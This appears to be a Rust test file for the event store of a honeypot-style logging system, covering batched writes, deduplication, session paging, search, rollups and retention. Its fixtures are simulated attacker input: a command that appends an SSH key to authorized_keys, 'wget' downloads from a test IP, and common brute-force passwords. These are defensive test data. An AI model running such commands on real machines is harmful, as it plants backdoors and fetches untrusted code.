//! The store against a real SQLite file: the writer, idempotent resends, per-request
//! isolation, queries and pagination.

#[path = "store/copy.rs"]
mod copy;
#[path = "store/stream.rs"]
mod stream;

use nectar_bus::stream::{JsonLines, LineFile, StartAt, spawn_consumer};
use nectar_bus::{BusConfig, spawn_bus};
use nectar_capture::jsonl::JsonlConfig;
use nectar_event::{Event, Kind, Severity, Timestamp};
use nectar_store::{
    EventFilter, KindFilter, SessionFilter, SessionOrder, Store, WriterConfig, WriterHandle,
};

/// The event log's consumer over `dir/events.jsonl`.
pub(crate) fn jsonl_consumer(dir: &std::path::Path, name: &str) -> LineFile<JsonLines> {
    LineFile::open(
        name,
        JsonlConfig {
            path: dir.join("events.jsonl"),
            max_bytes: 0,
            keep: 0,
        },
        JsonLines,
        StartAt::Latest,
    )
    .unwrap()
}

pub(crate) fn event(i: i64, kind: Kind) -> Event {
    Event::new(
        "test",
        kind,
        Severity::ALL[(i % 5) as usize],
        format!("event {i}"),
    )
    .at(Timestamp::from_micros(1_700_000_000_000_000 + i * 1_000_000).unwrap())
    .from_addr(std::net::IpAddr::from([192, 0, 2, (i % 3) as u8]), None)
}

pub(crate) async fn open(
    db: &nectar_store::testing::TestDatabase,
) -> (Store, WriterHandle, tokio::task::JoinHandle<()>) {
    let store = Store::open(&db.config).await.unwrap();
    let (writer, task) = WriterHandle::spawn(store.clone(), WriterConfig::default());
    (store, writer, task)
}

nectar_store::on_both_backends! {
    #[tokio::test]
    async fn write_read_paginate_and_count(db, dir) {
        let (store, writer, task) = open(&db).await;
        let events: Vec<Event> = (0..2_500)
            .map(|i| {
                event(
                    i,
                    if i % 2 == 0 {
                        Kind::SshLoginFailed
                    } else {
                        Kind::HttpRequest
                    },
                )
            })
            .collect();
        let outcome = writer.submit(events.clone()).await.unwrap();
        assert_eq!(outcome.stored, 2_500);

        let got = store
            .get_event(events[7].id)
            .await
            .unwrap()
            .expect("stored event");
        assert_eq!(got, events[7]);
        assert!(
            store
                .get_event(uuid::Uuid::now_v7())
                .await
                .unwrap()
                .is_none()
        );

        let mut seen = Vec::new();
        let mut cursor = None;
        loop {
            let page = store
                .list_events(&EventFilter::default(), cursor, 300)
                .await
                .unwrap();
            seen.extend(page.events.iter().map(|e| e.id));
            match page.next {
                Some(next) => cursor = Some(next.to_string().parse().unwrap()),
                None => break,
            }
        }
        assert_eq!(seen.len(), 2_500);
        assert_eq!(seen[0], events[2_499].id, "newest first");

        let ssh = EventFilter {
            kind: Some(KindFilter::Prefix("ssh".into())),
            ..EventFilter::default()
        };
        assert_eq!(store.count_events(&ssh).await.unwrap(), 1_250);
        let by_kind = store.count_by_kind(&EventFilter::default()).await.unwrap();
        assert_eq!(by_kind.len(), 2);
        assert_eq!(by_kind.iter().map(|k| k.count).sum::<i64>(), 2_500);
        let buckets = store
            .count_by_bucket(&EventFilter::default(), 600_000_000)
            .await
            .unwrap();
        assert_eq!(buckets.iter().map(|b| b.count).sum::<i64>(), 2_500);
        assert!((5..=6).contains(&buckets.len()), "{}", buckets.len());
        assert!(buckets.windows(2).all(|w| w[0].start < w[1].start));

        let severities = store
            .count_by_severity(&EventFilter::default())
            .await
            .unwrap();
        assert_eq!(severities.len(), 5);
        assert!(severities.iter().all(|(_, n)| *n == 500));
        let top = store
            .top_values(&EventFilter::default(), nectar_store::TopField::SrcIp, 2)
            .await
            .unwrap();
        assert_eq!(top.len(), 2);
        assert!(
            top[0].value.starts_with("192.0.2.") && top[0].count == 834,
            "{top:?}"
        );

        drop(writer);
        task.await.unwrap();
    }
}

nectar_store::on_both_backends! {
    #[tokio::test]
    async fn data_fields_and_sessions(db, dir) {
        let (store, writer, _task) = open(&db).await;
        let events: Vec<Event> = (0..30)
            .map(|i| {
                event(i, Kind::SshLoginFailed)
                    .with("username", if i % 3 == 0 { "root" } else { "admin" })
                    .with("session", format!("s{}", i % 2))
            })
            .collect();
        writer.submit(events).await.unwrap();
        let top = store
            .top_values(
                &EventFilter::default(),
                nectar_store::TopField::Data(nectar_store::DataField::Username),
                10,
            )
            .await
            .unwrap();
        assert_eq!(top[0].value, "admin");
        assert_eq!(top[0].count, 20);
        assert_eq!(top[1].value, "root");
        let session = EventFilter {
            session: Some("s1".into()),
            ..EventFilter::default()
        };
        assert_eq!(store.count_events(&session).await.unwrap(), 15);
        let sessions = store
            .list_sessions(&SessionFilter::default(), None, 10)
            .await
            .unwrap()
            .sessions;
        assert_eq!(sessions.len(), 2);
        assert_eq!(sessions[0].session, "s1", "newest first");
        assert_eq!((sessions[0].events, sessions[0].failed_logins), (15, 15));
        assert!(sessions[0].first < sessions[0].last);
    }
}

nectar_store::on_both_backends! {
    /// The sessions list: interactive sessions first, filters narrow, paging
    /// reaches every session once, HTTP requests only when asked for.
    #[tokio::test]
    async fn sessions_are_paged_filtered_and_interesting_first(db, dir) {
        let (store, writer, _task) = open(&db).await;
        let mut events = Vec::new();
        // The interactive session, oldest of all.
        events.push(
            event(0, Kind::SshLoginSuccess)
                .with("session", "shell")
                .with("username", "root")
                .with("password", "hunter2")
                .from_addr("2001:db8:1:2::9".parse().unwrap(), None),
        );
        events.push(event(1, Kind::SshCommand).with("session", "shell").with(
            "input",
            "echo ssh-rsa AAAAB3 mdrfckr >> .ssh/authorized_keys",
        ));
        events.push(
            event(2, Kind::SshUpload)
                .with("session", "shell")
                .with("sha256", "ab".repeat(32)),
        );
        for i in 0..300 {
            events.push(
                event(10 + i, Kind::SshLoginFailed)
                    .with("session", format!("fail-{i}"))
                    .with("protocol", "ssh"),
            );
            events.push(
                event(10 + i, Kind::HttpRequest)
                    .with("session", format!("http-{i}"))
                    .with("protocol", "http")
                    .with("path", format!("/cgi-bin/status{i}"))
                    .with("user_agent", "Mozilla/5.0 zgrab/0.x"),
            );
            events.push(event(10 + i, Kind::SessionConnect).with("session", format!("scan-{i}")));
        }
        writer.submit(events).await.unwrap();

        let first = store
            .list_sessions(&SessionFilter::default(), None, 50)
            .await
            .unwrap();
        assert_eq!(first.sessions[0].session, "shell");
        let shell = &first.sessions[0];
        assert_eq!((shell.commands, shell.uploads, shell.logins), (1, 1, 1));
        assert_eq!(shell.protocol, "ssh");
        assert_eq!(shell.username.as_deref(), Some("root"));
        assert_eq!(shell.interest, 3);
        assert_eq!(first.sessions[1].interest, 1, "failed logins next");

        // Paging reaches every session once; HTTP is not listed.
        for order in [SessionOrder::Interest, SessionOrder::Newest] {
            let filter = SessionFilter {
                order,
                ..SessionFilter::default()
            };
            let mut seen = std::collections::HashSet::new();
            let mut cursor: Option<nectar_store::SessionCursor> = None;
            for _ in 0..100 {
                let page = store
                    .list_sessions(&filter, cursor.as_ref(), 37)
                    .await
                    .unwrap();
                for s in &page.sessions {
                    assert!(seen.insert(s.session.clone()), "{} twice", s.session);
                    assert!(!s.session.starts_with("http-"));
                }
                match page.next {
                    Some(next) => cursor = Some(next.to_string().parse().unwrap()),
                    None => break,
                }
            }
            assert_eq!(seen.len(), 601, "{order:?}");
        }
        let count = |filter: SessionFilter| {
            let store = store.clone();
            async move {
                store
                    .list_sessions(&filter, None, 1_000)
                    .await
                    .unwrap()
                    .sessions
                    .len()
            }
        };
        let http = SessionFilter {
            protocol: Some("http".into()),
            ..SessionFilter::default()
        };
        assert_eq!(count(http).await, 300);
        let logged_in = SessionFilter {
            logged_in: Some(true),
            ..SessionFilter::default()
        };
        assert_eq!(count(logged_in).await, 1);
        let net = SessionFilter {
            src: Some("2001:db8:1::/48".parse().unwrap()),
            ..SessionFilter::default()
        };
        assert_eq!(count(net).await, 1);
        let v4 = SessionFilter {
            src: Some("192.0.2.0/24".parse().unwrap()),
            ..SessionFilter::default()
        };
        assert_eq!(count(v4).await, 600);
        let typed = SessionFilter {
            command_text: Some("mdrfckr".into()),
            ..SessionFilter::default()
        };
        assert_eq!(count(typed).await, 1);
        let uploads = SessionFilter {
            has_uploads: true,
            min_commands: Some(2),
            ..SessionFilter::default()
        };
        assert_eq!(count(uploads).await, 0);

        // Search over data, not only the summary.
        let search = |text: &str| {
            let store = store.clone();
            let filter = EventFilter {
                text: Some(text.into()),
                ..EventFilter::default()
            };
            async move { store.count_events(&filter).await.unwrap() }
        };
        assert_eq!(search(&"ab".repeat(32)).await, 1);
        assert_eq!(search("mdrfckr").await, 1);
        assert_eq!(search("MDRF*").await, 1);
        assert_eq!(search("\"ssh-rsa AAAAB3\"").await, 1);
        assert_eq!(
            search("\"AAAAB3 ssh-rsa\"").await,
            0,
            "a phrase keeps its order"
        );
        assert_eq!(search("/cgi-bin/status7").await, 1);
        assert_eq!(search("zgrab").await, 300);
        assert_eq!(search("hunter2").await, 1);
        let filter = EventFilter {
            text: Some("zgrab".into()),
            ..EventFilter::default()
        };
        let mut seen = 0;
        let mut cursor = None;
        for _ in 0..100 {
            let page = store.list_events(&filter, cursor, 70).await.unwrap();
            seen += page.events.len();
            match page.next {
                Some(next) => cursor = Some(next.to_string().parse().unwrap()),
                None => break,
            }
        }
        assert_eq!(seen, 300);
        assert_eq!(
            store.count_events_capped(&filter, 100).await.unwrap(),
            (100, true)
        );
        let v6 = EventFilter {
            src_net: Some("2001:db8:1::/48".parse().unwrap()),
            ..EventFilter::default()
        };
        assert_eq!(store.count_events(&v6).await.unwrap(), 1);
        let v4 = EventFilter {
            src_net: Some("192.0.2.0/24".parse().unwrap()),
            ..EventFilter::default()
        };
        assert_eq!(
            store.count_events(&v4).await.unwrap(),
            902,
            "all but the IPv6 one"
        );
    }
}

nectar_store::on_both_backends! {
    #[tokio::test]
    async fn resends_are_stored_once(db, dir) {
        let (store, writer, _task) = open(&db).await;
        let events: Vec<Event> = (0..1_500).map(|i| event(i, Kind::NetAlarm)).collect();
        writer.submit(events[..1_000].to_vec()).await.unwrap();
        let outcome = writer.submit(events.clone()).await.unwrap();
        assert_eq!((outcome.stored, outcome.duplicates), (500, 1_000));
        assert_eq!(
            store.count_events(&EventFilter::default()).await.unwrap(),
            1_500
        );
    }
}

nectar_store::on_both_backends! {
    /// A resent batch committed together with fresh ones: the writer's fast path gives
    /// up the whole transaction and redoes it row by row, so every request gets its own
    /// count, the counts per kind agree, and the JSON-lines copy (a consumer of the
    /// committed stream) has each event once, numbered 1..=4000 without a gap.
    #[tokio::test(flavor = "multi_thread", worker_threads = 2)]
    async fn a_resend_grouped_with_fresh_batches_is_counted_and_logged_once(db, dir) {
        let store = Store::open(&db.config).await.unwrap();
        let (writer, task) = WriterHandle::spawn(store.clone(), WriterConfig::default());
        let log = jsonl_consumer(dir.path(), "event-log");
        let consumer = spawn_consumer(log, store.clone(), writer.fanout(), Default::default()).unwrap();
        let events: Vec<Event> = (0..4_000).map(|i| event(i, Kind::NetAlarm)).collect();
        writer.submit(events[..1_000].to_vec()).await.unwrap();
        // Submitted at once, so the writer takes them into one transaction.
        let (resent, fresh_a, fresh_b) = tokio::join!(
            writer.submit(events[500..1_500].to_vec()),
            writer.submit(events[1_500..2_500].to_vec()),
            writer.submit(events[2_500..4_000].to_vec()),
        );
        let resent = resent.unwrap();
        assert_eq!((resent.stored, resent.duplicates), (500, 500));
        assert_eq!(fresh_a.unwrap().stored, 1_000);
        assert_eq!(fresh_b.unwrap().stored, 1_500);
        drop(writer);
        task.await.unwrap();
        consumer.stop(std::time::Duration::from_secs(30)).await;
        assert_eq!(
            store.count_events(&EventFilter::default()).await.unwrap(),
            4_000
        );
        let numbered = store.events_after(0, 10_000).await.unwrap();
        assert_eq!(
            numbered.iter().map(|s| s.seq).collect::<Vec<_>>(),
            (1..=4_000).collect::<Vec<u64>>(),
            "a resend takes no sequence number"
        );
        // The dashboard's counts, kept by the writer: a given-up transaction added nothing.
        let rolled = store
            .rollup_by_kind(nectar_store::RollupRange::new(None, None))
            .await
            .unwrap();
        assert_eq!(rolled.iter().map(|k| k.count).sum::<i64>(), 4_000);
        let lines = std::fs::read_to_string(dir.path().join("events.jsonl")).unwrap();
        let mut ids: Vec<String> = lines
            .lines()
            .map(|l| serde_json::from_str::<Event>(l).unwrap().id.to_string())
            .collect();
        assert_eq!(ids.len(), 4_000, "each stored event once in the log");
        ids.sort();
        ids.dedup();
        assert_eq!(ids.len(), 4_000);
    }
}

nectar_store::on_both_backends! {
    #[tokio::test]
    async fn the_bus_forwards_in_batches_and_drains_on_close(db, dir) {
        let (store, writer, task) = open(&db).await;
        let (sender, bus) = spawn_bus(
            writer.clone(),
            BusConfig {
                capacity: 1_000,
                max_batch: 100,
                linger: std::time::Duration::ZERO,
                ..BusConfig::default()
            },
        );
        for i in 0..950 {
            sender.send(event(i, Kind::SshCommand)).await;
        }
        assert!(sender.try_send(event(950, Kind::SshCommand)));
        let deadline = std::time::Instant::now() + std::time::Duration::from_secs(30);
        while sender
            .stats()
            .forwarded
            .load(std::sync::atomic::Ordering::Relaxed)
            < 951
        {
            assert!(std::time::Instant::now() < deadline, "bus did not forward");
            tokio::time::sleep(std::time::Duration::from_millis(5)).await;
        }
        assert_eq!(
            sender
                .stats()
                .dropped_full
                .load(std::sync::atomic::Ordering::Relaxed),
            0
        );
        drop(sender);
        bus.await.unwrap();
        assert_eq!(
            store.count_events(&EventFilter::default()).await.unwrap(),
            951
        );
        drop(writer);
        task.await.unwrap();
    }
}

nectar_store::on_both_backends! {
    #[tokio::test]
    async fn the_bus_commits_a_burst_sent_one_by_one_in_few_transactions(db, dir) {
        let (store, writer, task) = open(&db).await;
        let (sender, bus) = spawn_bus(
            writer.clone(),
            BusConfig {
                capacity: 100_000,
                max_batch: 5_000,
                ..BusConfig::default()
            },
        );
        // A lone event is committed after the linger, without waiting for company.
        let sent = tokio::time::Instant::now();
        sender.send(event(0, Kind::SessionConnect)).await;
        let forwarded = |s: &nectar_bus::EventSender| {
            s.stats()
                .forwarded
                .load(std::sync::atomic::Ordering::Relaxed)
        };
        let deadline = std::time::Instant::now() + std::time::Duration::from_secs(30);
        while forwarded(&sender) < 1 {
            assert!(std::time::Instant::now() < deadline, "bus did not forward");
            tokio::time::sleep(std::time::Duration::from_millis(5)).await;
        }
        assert!(sent.elapsed() >= nectar_bus::BUS_LINGER);
        // Then a brute force's events, one by one: a few transactions, not thousands.
        let commits_before = writer
            .stats()
            .commits
            .load(std::sync::atomic::Ordering::Relaxed);
        for i in 1..10_000 {
            sender.send(event(i, Kind::SessionConnect)).await;
        }
        // The bus hands batches on without waiting for their commit; their acks
        // count them as forwarded once committed.
        while forwarded(&sender) < 10_000 {
            assert!(std::time::Instant::now() < deadline, "bus did not forward");
            tokio::time::sleep(std::time::Duration::from_millis(5)).await;
        }
        drop(sender);
        bus.await.unwrap();
        let commits = writer
            .stats()
            .commits
            .load(std::sync::atomic::Ordering::Relaxed)
            - commits_before;
        assert!((2..=10).contains(&commits), "{commits} transactions");
        let all = store
            .list_events(&EventFilter::default(), None, 10_000)
            .await
            .unwrap();
        assert_eq!(all.events.len(), 10_000);
        drop(writer);
        task.await.unwrap();
    }
}

nectar_store::on_both_backends! {
    #[tokio::test]
    async fn rollups_agree_with_the_events(db, dir) {
        let (store, writer, task) = open(&db).await;
        let kinds = [Kind::SshLoginFailed, Kind::SshCommand, Kind::HttpRequest];
        let events: Vec<Event> = (0..3_000)
            .map(|i| {
                event(i, kinds[(i % 3) as usize])
                    .with("username", format!("user{}", i % 7))
                    .with("password", format!("pw{}", i % 5))
                    .with("input", "uname -a")
            })
            .collect();
        // Two submissions, one resent: rollups count each event once.
        writer.submit(events[..2_000].to_vec()).await.unwrap();
        writer.submit(events.clone()).await.unwrap();
        // Ranked values are written about once a second, and at shutdown.
        drop(writer);
        task.await.unwrap();
        let since = events[100].time;
        let until = events[2_900].time;
        let filter = EventFilter {
            since: Some(since),
            until: Some(until),
            ..EventFilter::default()
        };
        // Rollups count whole minutes: the one holding `since` and the one holding `until`.
        let range = nectar_store::RollupRange::new(Some(since), Some(until));
        let rolled = store.rollup_by_kind(range).await.unwrap();
        let exact = store.count_by_kind(&filter).await.unwrap();
        let aligned_since =
            nectar_event::Timestamp::from_micros(since.as_micros() / 60_000_000 * 60_000_000).unwrap();
        let aligned_until =
            nectar_event::Timestamp::from_micros((until.as_micros() / 60_000_000 + 1) * 60_000_000)
                .unwrap();
        let aligned = EventFilter {
            since: Some(aligned_since),
            until: Some(aligned_until),
            ..filter.clone()
        };
        let exact_aligned = store.count_by_kind(&aligned).await.unwrap();
        assert_eq!(rolled, exact_aligned, "exact {exact:?}");
        let severities = store.rollup_by_severity(range).await.unwrap();
        assert_eq!(severities, store.count_by_severity(&aligned).await.unwrap());
        let buckets = store.rollup_by_bucket(range, 600_000_000).await.unwrap();
        assert_eq!(
            buckets,
            store.count_by_bucket(&aligned, 600_000_000).await.unwrap()
        );
        // Ranked values are per hour: compare over whole hours.
        let hour_since =
            nectar_event::Timestamp::from_micros(since.as_micros() / 3_600_000_000 * 3_600_000_000)
                .unwrap();
        let hour_until = nectar_event::Timestamp::from_micros(
            (until.as_micros() / 3_600_000_000 + 1) * 3_600_000_000,
        )
        .unwrap();
        let range = nectar_store::RollupRange::new(Some(hour_since), Some(hour_until));
        let aligned = EventFilter {
            since: Some(hour_since),
            until: Some(hour_until),
            ..filter.clone()
        };
        for field in [
            nectar_store::TopField::SrcIp,
            nectar_store::TopField::Data(nectar_store::DataField::Username),
            nectar_store::TopField::Data(nectar_store::DataField::Input),
        ] {
            let rolled = store.rollup_top(range, field, 5).await.unwrap();
            let exact = store.top_values(&aligned, field, 5).await.unwrap();
            assert_eq!(rolled, exact, "{field:?}");
        }
        // Passwords are counted for logins only.
        let logins = EventFilter {
            kind: Some(KindFilter::Prefix("ssh.login".into())),
            ..aligned.clone()
        };
        let pw = nectar_store::TopField::Data(nectar_store::DataField::Password);
        assert_eq!(
            store.rollup_top(range, pw, 5).await.unwrap(),
            store.top_values(&logins, pw, 5).await.unwrap()
        );
    }
}

nectar_store::on_both_backends! {
    #[tokio::test]
    async fn sealed_passwords_and_commands_are_counted_not_ranked(db, dir) {
        let (store, writer, task) = open(&db).await;
        // With `encrypt_to` the secret is `FIELD_enc` (age, base64) and `FIELD` is absent.
        let mut events: Vec<Event> = (0..40)
            .map(|i| {
                event(i, Kind::SshLoginFailed)
                    .with("username", "root")
                    .with("password_enc", format!("YWdlLWVuY3J5cHRpb24{i}"))
            })
            .collect();
        events.extend((40..52).map(|i| {
            event(i, Kind::TelnetCommand).with("input_enc", format!("YWdlLWVuY3J5cHRpb24{i}"))
        }));
        // Two in clear (a sensor without `encrypt_to`), and a non-login event whose
        // sealed password is not a login attempt.
        events.push(event(52, Kind::SshLoginFailed).with("password", "123456"));
        events.push(event(53, Kind::SshCommand).with("input", "uname -a"));
        events.push(event(54, Kind::HttpRequest).with("password_enc", "YWdl"));
        writer.submit(events).await.unwrap();
        drop(writer);
        task.await.unwrap();
        let range = nectar_store::RollupRange::new(None, None);
        let pw = nectar_store::DataField::Password;
        let input = nectar_store::DataField::Input;
        assert_eq!(store.rollup_sealed(range, pw).await.unwrap(), 40);
        assert_eq!(store.rollup_sealed(range, input).await.unwrap(), 12);
        let user = nectar_store::DataField::Username;
        assert_eq!(store.rollup_sealed(range, user).await.unwrap(), 0);
        // The ranked lists hold only what is in clear.
        for (field, clear) in [(pw, "123456"), (input, "uname -a")] {
            let top = store
                .rollup_top(range, nectar_store::TopField::Data(field), 10)
                .await
                .unwrap();
            assert_eq!(top.len(), 1, "{field:?}");
            assert_eq!((top[0].value.as_str(), top[0].count), (clear, 1));
        }
    }
}

nectar_store::on_both_backends! {
    #[tokio::test]
    async fn ranked_values_are_pruned_to_the_heavy_hitters(db, dir) {
        let (store, writer, task) = open(&db).await;
        // One hour: 1,000 distinct one-off passwords, and three frequent ones.
        let mut events = Vec::new();
        for i in 0..1_000 {
            events.push(event(i % 3_000, Kind::SshLoginFailed).with("password", format!("once{i}")));
        }
        for (word, times) in [("123456", 300), ("password", 200), ("admin", 100)] {
            for i in 0..times {
                events.push(event(i % 3_000, Kind::SshLoginFailed).with("password", word));
            }
        }
        writer.submit(events).await.unwrap();
        drop(writer);
        task.await.unwrap(); // prunes at shutdown
        let range = nectar_store::RollupRange::new(None, None);
        let field = nectar_store::TopField::Data(nectar_store::DataField::Password);
        let top = store.rollup_top(range, field, 1_000).await.unwrap();
        assert_eq!(top.len(), nectar_store::KEEP_VALUES_PER_BUCKET);
        let names: Vec<&str> = top.iter().take(3).map(|v| v.value.as_str()).collect();
        assert_eq!(names, ["123456", "password", "admin"]);
        assert_eq!(top[0].count, 300);
    }
}

nectar_store::on_both_backends! {
    #[tokio::test]
    async fn ranked_values_continue_across_restarts_and_days(db, dir) {
        let day = 86_400_000_000i64;
        let start = 1_700_006_400_000_000i64 / day * day; // a midnight
        // Each run: "root" once an hour for 48 hours, and a one-off user per event.
        let logins = |run: i64| -> Vec<Event> {
            (0..48)
                .flat_map(|h| {
                    let at = Timestamp::from_micros(start + h * 3_600_000_000 + run).unwrap();
                    [
                        Event::new("test", Kind::SshLoginFailed, Severity::Low, "login")
                            .at(at)
                            .with("username", "root"),
                        Event::new("test", Kind::SshLoginFailed, Severity::Low, "login")
                            .at(at)
                            .with("username", format!("once{run}-{h}")),
                    ]
                })
                .collect()
        };
        for run in 0..2 {
            // A new writer each time, as after a restart: its summaries start empty and
            // must add to what the table holds.
            let (store, writer, task) = open(&db).await;
            writer.submit(logins(run)).await.unwrap();
            drop(writer);
            task.await.unwrap();
            store.close().await;
        }
        let (store, _writer, _task) = open(&db).await;
        let field = nectar_store::TopField::Data(nectar_store::DataField::Username);
        // Two days: read per day.
        let week = nectar_store::RollupRange::new(
            Some(Timestamp::from_micros(start - 5 * day).unwrap()),
            None,
        );
        let top = store.rollup_top(week, field, 3).await.unwrap();
        assert_eq!(top[0].value, "root");
        assert_eq!(top[0].count, 96);
        assert_eq!(top[1].count, 1);
        // One hour: read per hour.
        let hour = nectar_store::RollupRange::new(
            Some(Timestamp::from_micros(start + 3_600_000_000).unwrap()),
            Some(Timestamp::from_micros(start + 2 * 3_600_000_000 - 1).unwrap()),
        );
        let top = store.rollup_top(hour, field, 5).await.unwrap();
        let names: Vec<&str> = top.iter().map(|v| v.value.as_str()).collect();
        assert_eq!(names, ["root", "once0-1", "once1-1"]);
        assert_eq!(top[0].count, 2);
    }
}

nectar_store::on_both_backends! {
    /// Retention deletes the events older than the cutoff in batches, and the
    /// sessions that ended before it; what is newer stays, searchable.
    #[tokio::test]
    async fn retention_removes_old_events_and_sessions_in_batches(db, dir) {
        let _ = &dir;
        let (store, writer, _task) = open(&db).await;
        // event(i): one second apart from a fixed start; sessions of 10 events.
        let events: Vec<Event> = (0..2_500)
            .map(|i| {
                event(i, Kind::SshCommand)
                    .with("session", format!("s{}", i / 10))
                    .with("input", format!("wget http://198.51.100.7/x{i}"))
            })
            .collect();
        writer.submit(events.clone()).await.unwrap();
        let cutoff = events[1_000].time;
        let report = store
            .prune(cutoff, 300, std::time::Duration::ZERO)
            .await
            .unwrap();
        assert_eq!(report.events, 1_000);
        assert_eq!(report.batches, 4, "{report:?}");
        assert_eq!(report.sessions, 100, "{report:?}");
        assert_eq!(
            store.count_events(&EventFilter::default()).await.unwrap(),
            1_500
        );
        let oldest = store
            .list_events(&EventFilter::default(), None, 10_000)
            .await
            .unwrap()
            .events
            .into_iter()
            .map(|e| e.time)
            .min()
            .unwrap();
        assert_eq!(oldest, cutoff);
        // Search finds the kept events and none of the removed ones.
        let search = |text: &str| EventFilter {
            text: Some(text.into()),
            ..EventFilter::default()
        };
        assert_eq!(store.count_events(&search("x999")).await.unwrap(), 0);
        assert_eq!(store.count_events(&search("x1000")).await.unwrap(), 1);
        assert_eq!(store.count_events(&search("wget")).await.unwrap(), 1_500);
        let sessions = store
            .list_sessions(&SessionFilter::default(), None, 1_000)
            .await
            .unwrap()
            .sessions;
        assert_eq!(sessions.len(), 150);
        // Nothing left to do: a second pass removes nothing.
        let again = store
            .prune(cutoff, 300, std::time::Duration::ZERO)
            .await
            .unwrap();
        assert_eq!(again, nectar_store::PruneReport::default());
    }
}
